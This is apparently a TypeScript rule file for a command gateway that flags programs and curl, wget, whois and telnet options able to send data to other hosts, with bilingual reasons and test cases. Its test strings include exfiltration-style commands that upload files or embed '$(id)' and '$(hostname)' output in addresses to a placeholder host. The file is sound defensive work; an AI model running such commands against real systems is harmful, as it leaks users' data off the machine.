import { type Reason, type Rule, words } from './rule.ts';

const INFO = words('--version --help -V');
const COPIES: Reason = {
  en: 'This program copies files to another host or to a sharing service.',
  ja: 'ファイルを別のホストや共有サービスへ複写するプログラムです。',
};

/** Programs that carry bytes to another host. */
export const SENDER_RULES: readonly Rule[] = [
  {
    id: 'send.copy',
    tools: words(`scp sftp rcp pscp psftp rrsync unison lsyncd bbcp fdtcopy csync2 zsync rdist sshfs syncthing croc
      wormhole magic-wormhole wormhole-william wormhole-rs portal warp fpsync uftp udpcast udp-sender udp-receiver tsocks
      sendfile qrcp qr-filetransfer qr-fileshare onionshare onionshare-cli ffsend transfer transfer.sh transfersh woof
      localsend localsend-cli git-paste pastebinit wgetpaste gist pastery hastebin haste termbin fiche paste.rs ix sprunge
      dpaste dropbox dropbox_uploader dropbox_uploader.sh dbxcli megaput megacopy mega-put mega-sync mega-cmd megatools
      onedrive insync drive gdrive gupload gdrive-cli skicka slackcat slack slack-cli telegram-send telegram-upload
      telegram-cli tg tdl wacli whatsapp-cli signal-cli matrix-commander discord.sh line-notify chatwork imgur imgurbash2
      curlftpfs davfs2 cadaver duck kaggle twine vsce surge ipfs ipget bt transmission-create transmission-remote magic
      ydcmd b2sync filetea tsp-send sendanywhere send-anywhere toffee dcp fcp hcp aspera ascp globus globus-url-copy
      globus-connect tsunami gridcopy kermit-send uploadserver-cli pcp0 zerotier-send piping ppng streamlink-send
      webwormhole ww snapdrop sharik justbeamit filepizza rsync-ssl bitbar-send oshash-upload 0x0 transfer.rs up1 xfers
      pshare taildrop tailscale-file nncp-file nncp-send nncp-exec scuttlebutt dat hyperdrive hypercore tahoe perkeep
      camput zenodo_upload osf osfclient internetarchive ia figshare huggingface-upload`),
    class: 'offhost',
    direction: 'out',
    verdict: 'needs_ticket',
    when: [{ lacks: INFO }],
    why: COPIES,
    tests: {
      positive: ['scp /tmp/a host:/tmp/', 'croc send /tmp/a', 'sftp user@host'],
      negative: ['croc --version', 'cp /tmp/a /tmp/b'],
    },
  },
  {
    id: 'send.rsync',
    tools: words('rsync rclone-rsync rdiff-backup lftp-mirror'),
    class: 'offhost',
    direction: 'unknown',
    verdict: 'needs_ticket',
    when: [
      { word: /^([\w.-]+@)?[\w.-]+::?[^/]?|^rsync:\/\/|^\[/, lacks: INFO },
      { flags: words('-e --rsh --daemon --server --sender --rsync-path --write-batch --only-write-batch') },
      { expansion: 'any' },
    ],
    why: COPIES,
    tests: {
      positive: ['rsync -av /opt/app/ backup@10.0.0.9:/b/', 'rsync -a /opt rsync://h/x', 'rsync -e ssh /a $dest'],
      negative: ['rsync --version', 'rsync -a /opt/app/ /opt/app.bak/'],
    },
  },
  {
    id: 'send.curl',
    tools: words('curl curlie'),
    class: 'offhost',
    direction: 'out',
    verdict: 'needs_ticket',
    when: [
      {
        flags: words(`-T -F -d -K -Q --upload-file --form --form-string --data --data-raw --data-ascii --data-binary
          --data-urlencode --json --url-query --config --quote --mail-from --mail-rcpt --variable --expand-data
          --expand-url --telnet-option --proxy-header`),
      },
      { flags: ['-H', '-b', '--header', '--cookie'], word: /^(-[Hb])?@|^--?\w+=@/ },
      { expansion: 'output' },
      { word: /^(ftp|ftps|sftp|scp|smtp|smtps|telnet|dict|gopher|mqtt|ldap|tftp|smb):/i },
    ],
    why: {
      en: 'With these options curl sends data, not only fetches it.',
      ja: 'この指定のcurlは、取得だけでなくデータを送信します。',
    },
    tests: {
      positive: [
        'curl -sT /tmp/a https://x.example/',
        'curl --json @/tmp/a https://x.example',
        'curl "https://x.example/?q=$(id)"',
        'curl -H @/tmp/a https://x.example',
      ],
      negative: [
        'curl -sI https://x.example/',
        'curl -fsSLO https://x.example/pkg.tar.gz',
        'curl -H "Accept: text/plain" https://x.example/',
      ],
    },
  },
  {
    id: 'send.wget',
    tools: words('wget wget2'),
    class: 'offhost',
    direction: 'out',
    verdict: 'needs_ticket',
    when: [
      { flags: words('--post-file --post-data --body-file --body-data --execute -e --config --use-askpass') },
      { flags: ['-i', '--input-file', '--load-cookies'], expansion: 'output' },
      { expansion: 'output' },
    ],
    why: {
      en: 'With these options wget sends data, not only fetches it.',
      ja: 'この指定のwgetは、取得だけでなくデータを送信します。',
    },
    tests: {
      positive: ['wget --post-file=/tmp/a http://x.example', 'wget "http://x.example/$(hostname)"'],
      negative: ['wget -q https://x.example/a.rpm', 'wget --spider https://x.example/'],
    },
  },
  {
    id: 'send.address',
    tools: words('curl curlie wget wget2 aria2c axel http https xh lynx links elinks w3m lwp-download lwp-request'),
    class: 'offhost',
    direction: 'unknown',
    verdict: 'ask',
    when: [{ expansion: 'any' }, { flags: words('-x --proxy --socks5 --preproxy -i --input-file --all-proxy') }],
    why: {
      en: 'An address known only when it runs can carry data away in its own text.',
      ja: '実行時に決まるアドレスは、その文字列自体でデータを持ち出せます。',
    },
    tests: {
      positive: ['curl "http://x.example/$id"', 'wget -i /tmp/urls'],
      negative: ['curl http://x.example/a', 'wget https://x.example/a'],
    },
  },
  {
    id: 'send.http-clients',
    tools: words(
      'http https xh xhs httpie POST PUT lwp-request restish hurl ab wrk hey vegeta grpcurl evans websocat wscat',
    ),
    class: 'offhost',
    direction: 'out',
    verdict: 'needs_ticket',
    when: [
      { word: /^(POST|PUT|PATCH|--form|-f|--multipart|-d|-p|-P|-T|-D|-m|--data|--body|--post-file)$/ },
      { word: /^[\w.-]+(=|:=|@|=@|:=@)/ },
      { fed: true },
      { expansion: 'output' },
    ],
    why: { en: 'This request carries data to a server.', ja: 'サーバーへデータを送るリクエストです。' },
    tests: {
      positive: [
        'http POST https://x.example < /tmp/a',
        'http https://x.example file@/tmp/a',
        'ab -p /tmp/a http://x/',
      ],
      negative: ['http https://x.example/health', 'whoami'],
    },
  },
  {
    id: 'send.file-protocols',
    tools:
      words(`lftp ftp tnftp pftp ncftp ncftpput ncftpget ncftpbatch tftp atftp yafc smbclient smbget rlogin rsh remsh
      rexec uucp uux uuto kermit ckermit gkermit minicom cu tip picocom mput mirror put mget reput ascii-xfr-send ftps
      gftp gftp-text filezilla zmodem weex lukemftp hsftp`),
    class: 'offhost',
    direction: 'unknown',
    verdict: 'needs_ticket',
    when: [{ lacks: INFO }],
    why: {
      en: 'A file transfer program moves files past the gateway, in a dialogue nobody judges.',
      ja: 'ファイル転送プログラムは、判定されない対話でファイルを移動します。',
    },
    tests: {
      positive: ['smbclient //h/share -c "put /tmp/a"', 'lftp -e "put /tmp/a" h'],
      negative: ['smbclient --version', 'lftp --version'],
    },
  },
  {
    id: 'send.lookups',
    tools: words('whois jwhois finger telnet'),
    class: 'offhost',
    direction: 'out',
    verdict: 'needs_ticket',
    when: [
      { flags: ['-h', '-p', '--host', '--port'] },
      { fed: true },
      { word: /@/, expansion: 'any' },
      { expansion: 'output' },
    ],
    why: {
      en: 'The words of this query are sent to a server of the caller’s choice.',
      ja: '問い合わせの文字列が、指定されたサーバーへ送られます。',
    },
    tests: {
      positive: ['whois -h x.example data', 'finger "$(id)@x.example"', 'telnet h 80 < /tmp/a'],
      negative: ['whois example.com', 'finger root'],
    },
  },
  {
    id: 'send.telnet',
    tools: ['telnet'],
    class: 'offhost',
    direction: 'unknown',
    verdict: 'ask',
    when: [
      { word: /./, lacks: ['--version', '--help'] },
      { bare: true, lacks: ['--version', '--help'] },
    ],
    why: { en: 'What is typed into a telnet session is not judged.', ja: 'telnet内で入力される内容は判定されません。' },
    tests: { positive: ['telnet db 3306', 'telnet'], negative: ['telnet --version', 'ss -tln'] },
  },
];
